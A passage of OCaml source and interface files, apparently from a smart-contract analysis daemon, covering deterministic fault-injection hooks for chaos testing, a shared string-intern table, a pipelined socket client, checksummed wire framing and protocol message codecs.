      loop dies mid-flight; classified transient by the scheduler);
    - [oom] — raise [Out_of_memory] at a poll site (a fatal resource
      failure; never retried);
    - [disk_read] / [disk_write] — fail the cache disk tier's I/O
      ({!Injected}; the tier must degrade to memory-only);
    - [corrupt] — flip one bit of a cache payload as it is written
      (the self-validating codecs must turn this into a miss, never a
      poisoned hit);
    - [crash] — raise {!Crashed} at a journal write boundary,
      simulating a process killed at exactly that point (what reached
      [write(2)] before the raise is on disk, nothing after is);
    - [torn_write] — hand the journal writer a strict prefix of its
      record to write before dying, simulating a write torn by the
      kill (recovery must treat the tail as absent, not as data).

    {b Determinism.} Whether an injection point fires is a pure
    function of (seed, per-request context key, site, attempt number,
    per-site firing index) — no global RNG state, no wall clock — so
    two sweeps over the same corpus with the same spec inject the same
    faults at the same points, regardless of worker count or
    interleaving. The per-site counters live in domain-local state and
    are reset by {!set_context} at the start of every request.

    When unconfigured (the default), every hook is a no-op costing one
    atomic load. *)

type site = Poll | Oom | Disk_read | Disk_write | Corrupt | Crash | Torn_write

exception Injected of string
(** The exception injected faults raise (except [oom], which raises
    the real [Out_of_memory]). The scheduler classifies it as a
    transient I/O-class failure. *)

exception Crashed of string
(** Raised by {!crash_site} (and by journal writers after a torn
    write): a simulated process death. Unlike {!Injected} it must
    never be retried or absorbed by a recovery layer — only the
    top-level chaos driver may catch it, and only to exit. *)

val configure : string option -> unit
(** [configure (Some "spec:seed")] arms injection; [configure None]
    disarms it. Raises [Invalid_argument] on a malformed spec. Rates
    must be in [[0, 1]]. *)

val spec : unit -> string option
(** The armed spec in canonical [site=rate,...:seed] form, if any. *)

val enabled : unit -> bool

val set_context : key:string -> unit
(** Bind the calling domain's injection context to a request (the key
    is the contract's runtime bytecode): resets the per-site firing
    counters and mixes a hash of [key] into every draw, so a
    contract's fault schedule is independent of where in the sweep it
    runs. No-op when unconfigured. *)

val with_attempt : int -> (unit -> 'a) -> 'a
(** Run [f] with the calling domain's attempt number set to [n] (and
    restored after). The scheduler's bounded retry re-runs a request
    under attempt 1, which re-seeds every draw — so a transient fault
    does not deterministically re-fire on the retry. *)

val poll_site : unit -> unit
(** Injection hook wired into {!Deadline.poll}: may raise
    [Out_of_memory] ([oom] site) or {!Injected} ([poll] site). *)

val io_site : site -> unit
(** Injection hook for the cache disk tier ([Disk_read] /
    [Disk_write]): may raise {!Injected}. *)

val corrupt : string -> string
(** Payload-corruption hook for cache writes: returns the input
    unchanged, or — when the [corrupt] site fires — with one
    deterministically-chosen bit flipped. *)

val crash_site : unit -> unit
(** Injection hook placed at journal write boundaries: may raise
    {!Crashed} ([crash] site). A no-op when unconfigured. *)

val torn : string -> string option
(** Torn-write hook for journal appends: [None] (the overwhelmingly
    common case) means write the payload normally; [Some prefix] (the
    [torn_write] site fired) means write [prefix] — a strict,
    deterministically-sized prefix — and then raise {!Crashed}.
    Payloads shorter than 2 bytes are never torn. *)

val injected_count : unit -> int
(** Total faults fired process-wide since the last reset (all sites,
    all domains). *)

val reset_injected_count : unit -> unit
