(* Shared string intern table. See intern.mli. *)

type stats = {
  interned : int;
  local_hits : int;
  shared_hits : int;
  inserts : int;
}

(* Shared state, all guarded by [mutex]. *)
let mutex = Mutex.create ()
let tbl : (string, int) Hashtbl.t = Hashtbl.create 4096
let rev : (int, string) Hashtbl.t = Hashtbl.create 4096
let next_id = ref 0
let shared_hits = ref 0
let inserts = ref 0

(* Domain-local read-through caches. Each domain registers its cache
   record on first use so [stats] can aggregate the hit counters.
   [hits] is written only by the owning domain but read by whatever
   domain serves a stats snapshot (the daemon's stats endpoint), so it
   must be Atomic — an uncontended fetch-and-add on the owning domain,
   a coherent read everywhere else. *)
type local = {
  fwd : (string, int) Hashtbl.t;
  bwd : (int, string) Hashtbl.t;
  hits : int Atomic.t;
}

let locals : local list ref = ref [] (* guarded by [mutex] *)

let key =
  Domain.DLS.new_key (fun () ->
      let l =
        { fwd = Hashtbl.create 512; bwd = Hashtbl.create 512;
          hits = Atomic.make 0 }
      in
      Mutex.protect mutex (fun () -> locals := l :: !locals);
      l)

let id (s : string) : int =
  let l = Domain.DLS.get key in
  match Hashtbl.find_opt l.fwd s with
  | Some i ->
      Atomic.incr l.hits;
      i
  | None ->
      let i =
        Mutex.protect mutex (fun () ->
            match Hashtbl.find_opt tbl s with
            | Some i ->
                incr shared_hits;
                i
            | None ->
                let i = !next_id in
                incr next_id;
                incr inserts;
                Hashtbl.replace tbl s i;
                Hashtbl.replace rev i s;
                i)
      in
      Hashtbl.replace l.fwd s i;
      Hashtbl.replace l.bwd i s;
      i

let to_string (i : int) : string =
  let l = Domain.DLS.get key in
  match Hashtbl.find_opt l.bwd i with
  | Some s ->
      Atomic.incr l.hits;
      s
  | None ->
      let s =
        Mutex.protect mutex (fun () ->
            match Hashtbl.find_opt rev i with
            | Some s ->
                incr shared_hits;
                s
            | None ->
                invalid_arg
                  (Printf.sprintf "Intern.to_string: unknown id %d" i))
      in
      Hashtbl.replace l.bwd i s;
      Hashtbl.replace l.fwd s i;
      s

let size () = Mutex.protect mutex (fun () -> !next_id)

let stats () =
  Mutex.protect mutex (fun () ->
      (* each [hits] is Atomic: the cross-domain read is coherent (no
         data race), though the aggregate is still a moving snapshot *)
      let lh = List.fold_left (fun a l -> a + Atomic.get l.hits) 0 !locals in
      { interned = !next_id;
        local_hits = lh;
        shared_hits = !shared_hits;
        inserts = !inserts })
