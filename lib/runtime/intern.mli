(** Process-wide shared string interning.

    Scheduler domains analyzing different contracts keep meeting the
    same symbols — variable names, slot-class labels, relation
    constants — and before this table each worker re-interned them per
    contract. The table maps every distinct string to a small dense
    integer id, stable for the life of the process and {e shared
    across domains}, so downstream consumers (the Datalog engine's
    tuple codes, most prominently) can compare and hash constants as
    native ints instead of walking strings through polymorphic
    [compare].

    Concurrency: one shared table behind a mutex, plus a domain-local
    read-through cache in both directions. The hot path — a symbol the
    calling domain has already seen — is a single local [Hashtbl]
    lookup with no locking; the mutex is only taken on a local miss.
    Ids are assigned once and never change, so local caches can never
    go stale. *)

type stats = {
  interned : int;     (** distinct strings in the shared table *)
  local_hits : int;   (** lookups served by a domain-local cache *)
  shared_hits : int;  (** local misses found in the shared table *)
  inserts : int;      (** lookups that created a fresh id *)
}

val id : string -> int
(** [id s] is the unique id of [s], allocating one if [s] has never
    been interned. Equal strings get equal ids in every domain. *)

val to_string : int -> string
(** Inverse of {!id}. Raises [Invalid_argument] on an id never
    returned by {!id}. *)

val size : unit -> int
(** Distinct strings interned so far, process-wide. *)

val stats : unit -> stats
(** Counters across all domains. [local_hits] is aggregated from
    per-domain [Atomic] counters, so a snapshot taken while other
    domains are interning is coherent (no torn or racy reads), though
    it is still a moving total — the daemon's stats endpoint reads it
    concurrently with serving domains. *)
