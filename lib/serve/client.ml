(* Protocol client. See client.mli. *)

module P = Ethainter_core.Pipeline

type response =
  | Result of P.result
  | Error of Proto.server_error
  | Stats of Proto.stats
  | Pong
  | Watch of Proto.watch_status
  | Health of Proto.health

exception Protocol of string

type t = {
  fd : Unix.file_descr;
  send_mu : Mutex.t;
  next_id : int Atomic.t;
  (* responses read while waiting for a different id (pipelining) *)
  stash : (int, response) Hashtbl.t;
}

let of_fd fd =
  { fd;
    send_mu = Mutex.create ();
    next_id = Atomic.make 1;
    stash = Hashtbl.create 16 }

let connect_unix path =
  let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  (try Unix.connect fd (Unix.ADDR_UNIX path)
   with e -> (try Unix.close fd with _ -> ()); raise e);
  of_fd fd

let send t ~kind payload =
  let id = Atomic.fetch_and_add t.next_id 1 in
  Mutex.lock t.send_mu;
  Fun.protect
    ~finally:(fun () -> Mutex.unlock t.send_mu)
    (fun () -> Frame.write t.fd ~kind ~id payload);
  id

let send_analyze t ?(cfg = Ethainter_core.Config.default)
    ?(timeout_s = 120.0) ~hex () =
  send t ~kind:Proto.req_analyze
    (Proto.encode_analyze
       { Proto.a_hex = hex; a_cfg = cfg; a_timeout_s = timeout_s })

let send_stats t = send t ~kind:Proto.req_stats ""
let send_ping t = send t ~kind:Proto.req_ping ""

let send_watch t ~addr_hex =
  send t ~kind:Proto.req_watch (Proto.encode_watch addr_hex)

let send_index_stats t = send t ~kind:Proto.req_index_stats ""
let send_health t = send t ~kind:Proto.req_health ""

(* Decode one response frame. Every payload is re-validated by its own
   codec on top of the frame digest; an undecodable payload on a valid
   frame is a protocol violation, not a per-request error. *)
let decode_response ~kind payload : response =
  if kind = Proto.resp_result then
    match P.decode_result payload with
    | Some r -> Result r
    | None -> raise (Protocol "undecodable result payload")
  else if kind = Proto.resp_error then
    match Proto.decode_error payload with
    | Some e -> Error e
    | None -> raise (Protocol "undecodable error payload")
  else if kind = Proto.resp_stats then
    match Proto.decode_stats payload with
    | Some s -> Stats s
    | None -> raise (Protocol "undecodable stats payload")
  else if kind = Proto.resp_pong then Pong
  else if kind = Proto.resp_watch then
    match Proto.decode_watch_status payload with
    | Some w -> Watch w
    | None -> raise (Protocol "undecodable watch payload")
  else if kind = Proto.resp_health then
    match Proto.decode_health payload with
    | Some h -> Health h
    | None -> raise (Protocol "undecodable health payload")
  else raise (Protocol (Printf.sprintf "unknown response kind %C" kind))

let recv t : int * response =
  match Frame.read t.fd with
  | Error `Eof -> raise (Protocol "connection closed by server")
  | Error (`Frame e) -> raise (Protocol (Frame.error_to_string e))
  | Ok (kind, id, payload) -> (id, decode_response ~kind payload)

let rec recv_for t want =
  match Hashtbl.find_opt t.stash want with
  | Some r ->
      Hashtbl.remove t.stash want;
      r
  | None ->
      let id, r = recv t in
      if id = want then r
      else begin
        Hashtbl.replace t.stash id r;
        recv_for t want
      end

let analyze t ?cfg ?timeout_s ~hex () =
  recv_for t (send_analyze t ?cfg ?timeout_s ~hex ())

let stats t =
  match recv_for t (send_stats t) with
  | Stats s -> s
  | _ -> raise (Protocol "expected stats response")

let ping t = match recv_for t (send_ping t) with Pong -> true | _ -> false

let watch t ~addr_hex = recv_for t (send_watch t ~addr_hex)

let health t =
  match recv_for t (send_health t) with
  | Health h -> h
  | _ -> raise (Protocol "expected health response")

let index_stats t =
  match recv_for t (send_index_stats t) with
  | Stats s -> Ok s
  | Error e -> Stdlib.Error e
  | _ -> raise (Protocol "expected stats response")

(* Shutdown before close: close alone does not wake a thread blocked
   in read on the same fd (the receiver-thread pattern), shutdown
   delivers it EOF. Not a socket (stdio pipe)? The shutdown just
   fails, harmlessly. *)
let close t =
  (try Unix.shutdown t.fd Unix.SHUTDOWN_ALL with _ -> ());
  try Unix.close t.fd with _ -> ()
