(** In-process client for the {!Server} protocol — what the tests, the
    bench harness's open-loop load generators and [--selftest] drive
    the daemon with.

    A client owns one connection. Requests may be pipelined: [send_*]
    assigns a fresh id and returns immediately; responses are matched
    to ids by {!recv_for} (out-of-order arrivals are stashed). The
    [send_*] side is mutex-guarded, so one sender thread and one
    receiver thread may share a client (the open-loop bench pattern);
    multiple concurrent receivers are not supported — give each its
    own client. *)

type t

type response =
  | Result of Ethainter_core.Pipeline.result
      (** a completed analysis; per-contract failures (timeout,
          malformed hex, ...) arrive {e inside} the result with the
          PR 4 [error_kind] taxonomy intact *)
  | Error of Proto.server_error  (** protocol-level refusal *)
  | Stats of Proto.stats
  | Pong

exception Protocol of string
(** The byte stream broke: EOF mid-conversation, a frame that fails
    validation, or an undecodable response payload. *)

val connect_unix : string -> t
(** Connect to a daemon's Unix-domain socket. *)

val of_fd : Unix.file_descr -> t
(** Wrap an established stream (e.g. one end of a socketpair). The
    caller retains ownership of [fd] unless {!close} is called. *)

(** {1 Pipelined interface} *)

val send_analyze :
  t -> ?cfg:Ethainter_core.Config.t -> ?timeout_s:float -> hex:string ->
  unit -> int
(** Enqueue an analysis of hex-encoded runtime bytecode; returns the
    request id. [cfg] defaults to [Config.default], [timeout_s] to the
    paper's 120 s (the server may clamp it further). *)

val send_stats : t -> int
val send_ping : t -> int

val recv_for : t -> int -> response
(** The response with this id, reading (and stashing responses to
    other ids) as needed. @raise Protocol on a broken stream. *)

val recv : t -> int * response
(** The next response off the wire in arrival order, whatever its id —
    the open-loop load-generator pattern, where latency is measured at
    true arrival time. Don't mix with {!recv_for} on the same client
    unless the stash is empty. @raise Protocol on a broken stream. *)

(** {1 Synchronous conveniences} *)

val analyze :
  t -> ?cfg:Ethainter_core.Config.t -> ?timeout_s:float -> hex:string ->
  unit -> response
(** [send_analyze] + [recv_for]. *)

val stats : t -> Proto.stats
(** @raise Protocol if the server answers anything but stats. *)

val ping : t -> bool
(** True iff the server answered pong. *)

val close : t -> unit
(** Shut down and close the connection. The shutdown also wakes a
    receiver thread blocked in {!recv}/{!recv_for} (it sees EOF and
    raises {!Protocol}) — a plain close would leave it blocked. *)
