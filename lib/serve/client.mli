(** In-process client for the {!Server} protocol — what the tests, the
    bench harness's open-loop load generators and [--selftest] drive
    the daemon with.

    A client owns one connection. Requests may be pipelined: [send_*]
    assigns a fresh id and returns immediately; responses are matched
    to ids by {!recv_for} (out-of-order arrivals are stashed). The
    [send_*] side is mutex-guarded, so one sender thread and one
    receiver thread may share a client (the open-loop bench pattern);
    multiple concurrent receivers are not supported — give each its
    own client. *)

type t

type response =
  | Result of Ethainter_core.Pipeline.result
      (** a completed analysis; per-contract failures (timeout,
          malformed hex, ...) arrive {e inside} the result with the
          PR 4 [error_kind] taxonomy intact *)
  | Error of Proto.server_error  (** protocol-level refusal *)
  | Stats of Proto.stats
  | Pong
  | Watch of Proto.watch_status
      (** a streaming-index lookup ([--watch] daemons only) *)
  | Health of Proto.health
      (** the daemon's readiness verdict (never a protocol error) *)

exception Protocol of string
(** The byte stream broke: EOF mid-conversation, a frame that fails
    validation, or an undecodable response payload. *)

val connect_unix : string -> t
(** Connect to a daemon's Unix-domain socket. *)

val of_fd : Unix.file_descr -> t
(** Wrap an established stream (e.g. one end of a socketpair). The
    caller retains ownership of [fd] unless {!close} is called. *)

(** {1 Pipelined interface} *)

val send_analyze :
  t -> ?cfg:Ethainter_core.Config.t -> ?timeout_s:float -> hex:string ->
  unit -> int
(** Enqueue an analysis of hex-encoded runtime bytecode; returns the
    request id. [cfg] defaults to [Config.default], [timeout_s] to the
    paper's 120 s (the server may clamp it further). *)

val send_stats : t -> int
val send_ping : t -> int

val send_watch : t -> addr_hex:string -> int
(** Enqueue a streaming-index lookup for a contract address (hex
    text). A daemon without an index answers [Error (Malformed _)]. *)

val send_index_stats : t -> int
(** Enqueue a request for the index's [index_*] counters alone. *)

val send_health : t -> int
(** Enqueue a liveness/readiness probe ({!Proto.health}). *)

val recv_for : t -> int -> response
(** The response with this id, reading (and stashing responses to
    other ids) as needed. @raise Protocol on a broken stream. *)

val recv : t -> int * response
(** The next response off the wire in arrival order, whatever its id —
    the open-loop load-generator pattern, where latency is measured at
    true arrival time. Don't mix with {!recv_for} on the same client
    unless the stash is empty. @raise Protocol on a broken stream. *)

(** {1 Synchronous conveniences} *)

val analyze :
  t -> ?cfg:Ethainter_core.Config.t -> ?timeout_s:float -> hex:string ->
  unit -> response
(** [send_analyze] + [recv_for]. *)

val stats : t -> Proto.stats
(** @raise Protocol if the server answers anything but stats. *)

val ping : t -> bool
(** True iff the server answered pong. *)

val watch : t -> addr_hex:string -> response
(** [send_watch] + [recv_for]: [Watch status], or [Error (Malformed _)]
    when the daemon has no index attached. *)

val health : t -> Proto.health
(** [send_health] + [recv_for].
    @raise Protocol if the server answers anything but health. *)

val index_stats : t -> (Proto.stats, Proto.server_error) Stdlib.result
(** The index's counters, or the protocol error a watchless daemon
    answers. @raise Protocol if the server answers anything else. *)

val close : t -> unit
(** Shut down and close the connection. The shutdown also wakes a
    receiver thread blocked in {!recv}/{!recv_for} (it sees EOF and
    raises {!Protocol}) — a plain close would leave it blocked. *)
