(* Wire framing. See frame.mli for the layout. *)

let magic = "ETSF"
let protocol_version = 1
let header_size = 22
let max_payload = 16 * 1024 * 1024
let digest_size = 8

type error =
  | Truncated
  | Bad_magic
  | Bad_version of int
  | Oversized of int
  | Bad_digest

let error_to_string = function
  | Truncated -> "truncated frame"
  | Bad_magic -> "bad magic"
  | Bad_version v -> Printf.sprintf "unsupported protocol version %d" v
  | Oversized n -> Printf.sprintf "oversized frame (%d bytes)" n
  | Bad_digest -> "frame digest mismatch"

(* The digest covers version ‖ kind ‖ id ‖ length ‖ payload — i.e.
   every header field except the magic (which is checked literally)
   and the digest itself.

   FNV-1a-style rolling checksum on the native 63-bit int: each step
   [h <- (h lxor byte) * prime] is a bijection on [h] (the prime is
   odd), so any single-bit flip anywhere in the covered bytes changes
   the digest with certainty; broader corruption escapes with
   probability ~2^-63. Deliberately not cryptographic: frames carry
   multi-megabyte payloads and this runs on both ends of every frame —
   a keccak here throttles the whole transport to hash speed (measured
   ~2 MB/s pure-OCaml) and starves admission control behind it. *)
let fnv_prime = 0x100000001b3
let fnv_seed = 0x3bf29ce484222325 (* FNV-64 offset basis, truncated to 63 bits *)

let digest ~kind ~id ~len payload =
  let h = ref fnv_seed in
  let step b = h := (!h lxor b) * fnv_prime in
  step protocol_version;
  step (Char.code kind);
  step ((id lsr 24) land 0xff);
  step ((id lsr 16) land 0xff);
  step ((id lsr 8) land 0xff);
  step (id land 0xff);
  step ((len lsr 24) land 0xff);
  step ((len lsr 16) land 0xff);
  step ((len lsr 8) land 0xff);
  step (len land 0xff);
  for i = 0 to String.length payload - 1 do
    step (Char.code (String.unsafe_get payload i))
  done;
  let b = Bytes.create digest_size in
  Bytes.set_int64_be b 0 (Int64.of_int !h);
  Bytes.to_string b

let encode ~kind ~id payload =
  let len = String.length payload in
  if len > max_payload then invalid_arg "Frame.encode: payload too large";
  if id < 0 || id > 0x7FFFFFFF then invalid_arg "Frame.encode: id";
  let b = Bytes.create (header_size + len) in
  Bytes.blit_string magic 0 b 0 4;
  Bytes.set b 4 (Char.chr protocol_version);
  Bytes.set b 5 kind;
  Bytes.set_int32_be b 6 (Int32.of_int id);
  Bytes.set_int32_be b 10 (Int32.of_int len);
  Bytes.blit_string (digest ~kind ~id ~len payload) 0 b 14 digest_size;
  Bytes.blit_string payload 0 b header_size len;
  Bytes.to_string b

(* Parse and validate the 22-byte header at [pos]. Returns
   (kind, id, len, digest). The length bound is enforced here, before
   any payload is touched. *)
let decode_header buf ~pos =
  if pos < 0 || pos + header_size > String.length buf then Error Truncated
  else if String.sub buf pos 4 <> magic then Error Bad_magic
  else
    let v = Char.code buf.[pos + 4] in
    if v <> protocol_version then Error (Bad_version v)
    else
      let kind = buf.[pos + 5] in
      let id = Int32.to_int (String.get_int32_be buf (pos + 6)) in
      let len = Int32.to_int (String.get_int32_be buf (pos + 10)) in
      if id < 0 then Error Bad_digest  (* ids are non-negative by construction *)
      else if len < 0 || len > max_payload then Error (Oversized len)
      else Ok (kind, id, len, String.sub buf (pos + 14) digest_size)

let decode buf ~pos =
  match decode_header buf ~pos with
  | Error _ as e -> e
  | Ok (kind, id, len, dg) ->
      if pos + header_size + len > String.length buf then Error Truncated
      else
        let payload = String.sub buf (pos + header_size) len in
        if not (String.equal dg (digest ~kind ~id ~len payload)) then
          Error Bad_digest
        else Ok (kind, id, payload, header_size + len)

(* ---------------- blocking fd transport ---------------- *)

(* Both directions retry EINTR: the daemon installs real SIGINT/SIGTERM
   handlers, so a signal during a blocked read/write must not surface
   as a truncated frame or a dropped connection. *)

let rec write_all fd b off len =
  if len > 0 then
    match Unix.write fd b off len with
    | exception Unix.Unix_error (Unix.EINTR, _, _) -> write_all fd b off len
    | n -> write_all fd b (off + n) (len - n)

let write fd ~kind ~id payload =
  let s = encode ~kind ~id payload in
  write_all fd (Bytes.unsafe_of_string s) 0 (String.length s)

(* Read exactly [len] bytes; [`Eof_at 0] distinguishes a clean close
   at a frame boundary from truncation mid-frame. *)
let read_exact fd len =
  let b = Bytes.create len in
  let rec go off =
    if off = len then `Ok b
    else
      match Unix.read fd b off (len - off) with
      | exception Unix.Unix_error (Unix.EINTR, _, _) -> go off
      | 0 -> if off = 0 then `Eof else `Short
      | n -> go (off + n)
  in
  go 0

let read fd =
  match read_exact fd header_size with
  | `Eof -> Error `Eof
  | `Short -> Error (`Frame Truncated)
  | `Ok hdr -> (
      match decode_header (Bytes.to_string hdr) ~pos:0 with
      | Error e -> Error (`Frame e)
      | Ok (kind, id, len, dg) -> (
          match if len = 0 then `Ok Bytes.empty else read_exact fd len with
          | `Eof | `Short -> Error (`Frame Truncated)
          | `Ok body ->
              let payload = Bytes.to_string body in
              if not (String.equal dg (digest ~kind ~id ~len payload)) then
                Error (`Frame Bad_digest)
              else Ok (kind, id, payload)))
