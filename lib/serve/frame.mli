(** The daemon's wire framing: versioned, self-validating,
    length-prefixed binary frames, shared by the Unix-socket and stdio
    transports (one codec, two byte streams — the same discipline as
    the cache's disk codecs).

    Layout (header {!header_size} = 22 bytes, big-endian integers):

    {v
    offset  size  field
    0       4     magic "ETSF"
    4       1     protocol version (1)
    5       1     kind (request/response discriminator, see Proto)
    6       4     request id (echoed verbatim in the response)
    10      4     payload length (bounded by max_payload)
    14      8     digest: 64-bit FNV-style rolling checksum over
                  version ‖ kind ‖ id ‖ length ‖ payload
    22      n     payload
    v}

    The digest covers the header fields {e and} the payload, so a
    corrupted length, kind or id — not just a corrupted body — fails
    validation instead of desynchronizing the stream or dispatching a
    wrong message. Each checksum step is a bijection on the
    accumulator, so {e any} single-bit flip is detected with
    certainty (and longer corruptions escape with probability
    ~2{^-63}). It is an integrity check against accident, not an
    authenticator — a cryptographic digest here would serialize the
    reader thread behind hashing on multi-megabyte frames (the result
    payloads carry their own codec digest anyway). {!decode} is
    total: any deviation is a classified {!error}, never an
    exception. *)

val header_size : int
val max_payload : int
(** Frames above this payload size (16 MiB) are rejected as
    [Oversized] {e from the header alone} — a hostile length field
    never causes an allocation. *)

val protocol_version : int

type error =
  | Truncated       (** fewer bytes than the header/payload announce *)
  | Bad_magic
  | Bad_version of int
  | Oversized of int
  | Bad_digest      (** header or payload corrupt *)

val error_to_string : error -> string

val encode : kind:char -> id:int -> string -> string
(** A complete frame. @raise Invalid_argument if the payload exceeds
    {!max_payload} or [id] is outside [[0, 2^31)]. *)

val decode : string -> pos:int -> (char * int * string * int, error) result
(** [decode buf ~pos] parses one complete frame starting at [pos]:
    [Ok (kind, id, payload, consumed)]. [Error Truncated] means the
    buffer ends mid-frame (a streaming caller should read more);
    every other error means the bytes at [pos] are not a valid frame. *)

(** {1 Blocking transport} *)

val write : Unix.file_descr -> kind:char -> id:int -> string -> unit
(** Write one frame, handling short writes. Unix errors propagate
    (the connection is dead; the caller drops it). *)

val read : Unix.file_descr -> (char * int * string, [ `Eof | `Frame of error ]) result
(** Read exactly one frame. [`Eof] = the peer closed cleanly between
    frames; EOF mid-frame is [`Frame Truncated]. The payload is only
    read after the header fully validates, so a hostile length never
    allocates. *)
