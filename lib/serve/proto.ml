(* Message payloads. See proto.mli. *)

module Config = Ethainter_core.Config
module P = Ethainter_core.Pipeline

let req_analyze = 'A'
let req_stats = 'S'
let req_ping = 'P'
let req_watch = 'W'
let req_index_stats = 'I'
let req_health = 'H'
let resp_result = 'R'
let resp_stats = 'T'
let resp_error = 'E'
let resp_pong = 'O'
let resp_watch = 'w'
let resp_health = 'h'

(* ---------------- analyze request ---------------- *)

type analyze = {
  a_hex : string;
  a_cfg : Config.t;
  a_timeout_s : float;
}

let analyze_magic = "ethainter.serve.req.v1"

(* The config travels as its fingerprint (Config.of_fingerprint is the
   exact inverse); the hex is length-prefixed since dumps may embed
   whitespace. %h floats roundtrip bit-exactly. *)
let encode_analyze (a : analyze) : string =
  Printf.sprintf "%s\ncfg %s\ntimeout %h\nhex %d\n%s\n" analyze_magic
    (Config.fingerprint a.a_cfg)
    a.a_timeout_s
    (String.length a.a_hex)
    a.a_hex

let decode_analyze (s : string) : analyze option =
  let pos = ref 0 in
  let fail () = raise Exit in
  let line () =
    match String.index_from_opt s !pos '\n' with
    | None -> fail ()
    | Some i ->
        let l = String.sub s !pos (i - !pos) in
        pos := i + 1;
        l
  in
  let sized n =
    if n < 0 || !pos + n + 1 > String.length s then fail ();
    let x = String.sub s !pos n in
    if s.[!pos + n] <> '\n' then fail ();
    pos := !pos + n + 1;
    x
  in
  try
    if line () <> analyze_magic then fail ();
    let a_cfg =
      match String.split_on_char ' ' (line ()) with
      | [ "cfg"; fp ] -> (
          match Config.of_fingerprint fp with
          | Some c -> c
          | None -> fail ())
      | _ -> fail ()
    in
    let a_timeout_s =
      match String.split_on_char ' ' (line ()) with
      | [ "timeout"; t ] -> (
          match float_of_string_opt t with
          | Some f when Float.is_finite f && f > 0.0 -> f
          | _ -> fail ())
      | _ -> fail ()
    in
    let a_hex =
      match String.split_on_char ' ' (line ()) with
      | [ "hex"; n ] -> (
          match int_of_string_opt n with
          | Some n -> sized n
          | None -> fail ())
      | _ -> fail ()
    in
    if !pos <> String.length s then fail ();
    Some { a_hex; a_cfg; a_timeout_s }
  with _ -> None

(* ---------------- watch (streaming index lookup) ---------------- *)

let watch_req_magic = "ethainter.serve.watch.req.v1"

(* The request carries the contract address as hex text (length-
   prefixed; leading "0x" tolerated by the server's parser, not here —
   this layer just frames bytes). *)
let encode_watch (addr_hex : string) : string =
  Printf.sprintf "%s\naddr %d\n%s\n" watch_req_magic
    (String.length addr_hex) addr_hex

let decode_watch (s : string) : string option =
  let pos = ref 0 in
  let fail () = raise Exit in
  let line () =
    match String.index_from_opt s !pos '\n' with
    | None -> fail ()
    | Some i ->
        let l = String.sub s !pos (i - !pos) in
        pos := i + 1;
        l
  in
  let sized n =
    if n < 0 || !pos + n + 1 > String.length s then fail ();
    let x = String.sub s !pos n in
    if s.[!pos + n] <> '\n' then fail ();
    pos := !pos + n + 1;
    x
  in
  try
    if line () <> watch_req_magic then fail ();
    let addr =
      match String.split_on_char ' ' (line ()) with
      | [ "addr"; n ] -> (
          match int_of_string_opt n with
          | Some n -> sized n
          | None -> fail ())
      | _ -> fail ()
    in
    if !pos <> String.length s then fail ();
    Some addr
  with _ -> None

(* Mirrors Index.status; the verdict's result payload reuses the
   Pipeline result codec verbatim (wire format = disk format), nested
   length-prefixed. *)
type watch_status =
  | Watch_unknown
  | Watch_pending of int
  | Watch_destroyed
  | Watch_quarantined of int
  | Watch_indexed of {
      wi_deployed : int;
      wi_indexed : int;
      wi_result : P.result;
    }

let watch_magic = "ethainter.serve.watch.v1"

let encode_watch_status (w : watch_status) : string =
  match w with
  | Watch_unknown -> watch_magic ^ "\nunknown\n"
  | Watch_pending b -> Printf.sprintf "%s\npending %d\n" watch_magic b
  | Watch_destroyed -> watch_magic ^ "\ndestroyed\n"
  | Watch_quarantined n -> Printf.sprintf "%s\nquarantined %d\n" watch_magic n
  | Watch_indexed { wi_deployed; wi_indexed; wi_result } ->
      let payload = P.encode_result wi_result in
      Printf.sprintf "%s\nindexed %d %d %d\n%s\n" watch_magic wi_deployed
        wi_indexed (String.length payload) payload

let decode_watch_status (s : string) : watch_status option =
  let pos = ref 0 in
  let fail () = raise Exit in
  let line () =
    match String.index_from_opt s !pos '\n' with
    | None -> fail ()
    | Some i ->
        let l = String.sub s !pos (i - !pos) in
        pos := i + 1;
        l
  in
  let sized n =
    if n < 0 || !pos + n + 1 > String.length s then fail ();
    let x = String.sub s !pos n in
    if s.[!pos + n] <> '\n' then fail ();
    pos := !pos + n + 1;
    x
  in
  let int_of w =
    match int_of_string_opt w with Some n -> n | None -> fail ()
  in
  let finish v = if !pos <> String.length s then fail () else Some v in
  try
    if line () <> watch_magic then fail ();
    match String.split_on_char ' ' (line ()) with
    | [ "unknown" ] -> finish Watch_unknown
    | [ "pending"; b ] -> finish (Watch_pending (int_of b))
    | [ "destroyed" ] -> finish Watch_destroyed
    | [ "quarantined"; n ] -> finish (Watch_quarantined (int_of n))
    | [ "indexed"; dep; idx; n ] -> (
        let payload = sized (int_of n) in
        match P.decode_result payload with
        | Some r ->
            finish
              (Watch_indexed
                 { wi_deployed = int_of dep; wi_indexed = int_of idx;
                   wi_result = r })
        | None -> fail ())
    | _ -> fail ()
  with _ -> None

(* ---------------- health ---------------- *)

type health = Ready | Degraded of string | Draining

let health_magic = "ethainter.serve.health.v1"

(* The degraded reason is length-prefixed: it is human-prose and may
   contain anything, including newlines. *)
let encode_health (h : health) : string =
  match h with
  | Ready -> health_magic ^ "\nready\n"
  | Draining -> health_magic ^ "\ndraining\n"
  | Degraded reason ->
      Printf.sprintf "%s\ndegraded %d\n%s\n" health_magic
        (String.length reason) reason

let decode_health (s : string) : health option =
  let pos = ref 0 in
  let fail () = raise Exit in
  let line () =
    match String.index_from_opt s !pos '\n' with
    | None -> fail ()
    | Some i ->
        let l = String.sub s !pos (i - !pos) in
        pos := i + 1;
        l
  in
  let sized n =
    if n < 0 || !pos + n + 1 > String.length s then fail ();
    let x = String.sub s !pos n in
    if s.[!pos + n] <> '\n' then fail ();
    pos := !pos + n + 1;
    x
  in
  let finish v = if !pos <> String.length s then fail () else Some v in
  try
    if line () <> health_magic then fail ();
    match String.split_on_char ' ' (line ()) with
    | [ "ready" ] -> finish Ready
    | [ "draining" ] -> finish Draining
    | [ "degraded"; n ] -> (
        match int_of_string_opt n with
        | Some n -> finish (Degraded (sized n))
        | None -> fail ())
    | _ -> fail ()
  with _ -> None

(* ---------------- protocol errors ---------------- *)

type server_error = Overloaded | Malformed of string

let error_code = function
  | Overloaded -> "overloaded"
  | Malformed _ -> "malformed"

let error_magic = "ethainter.serve.err.v1"

let encode_error (e : server_error) : string =
  let msg = match e with Overloaded -> "" | Malformed m -> m in
  Printf.sprintf "%s\n%s %d\n%s\n" error_magic (error_code e)
    (String.length msg) msg

let decode_error (s : string) : server_error option =
  match String.split_on_char '\n' s with
